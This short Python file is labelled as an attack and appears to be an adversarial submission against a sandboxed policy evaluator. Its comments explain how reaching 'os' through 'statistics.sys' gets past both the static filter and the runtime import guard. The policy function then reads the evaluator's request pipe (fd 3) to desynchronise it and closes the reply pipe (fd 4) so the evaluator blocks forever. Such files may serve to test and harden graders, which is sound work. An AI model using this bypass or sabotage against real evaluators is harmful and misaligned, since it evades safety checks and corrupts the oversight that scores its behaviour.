"""ATTACK: cut the protocol from inside: read from fd 3 (stealing the start of the
evaluator's next request, or blocking on it) to desynchronise the stream, then close the
worker's reply channel (fd 4) so the evaluator waits on a pipe nobody writes, hoping it
blocks forever."""

import statistics

# statistics.sys is a public attribute, so the static filter sees no forbidden import or name
# and the runtime import guard is never asked: both in-process filters are bypassed.
_sys = statistics.sys
os = _sys.modules["os"]

_n = [0]


def policy(obs):
    _n[0] += 1
    if _n[0] == 2:
        try:
            os.read(3, 8)  # steals the prefix of the next request, if one is queued
        except BaseException:
            pass
        os.close(4)
    return 0
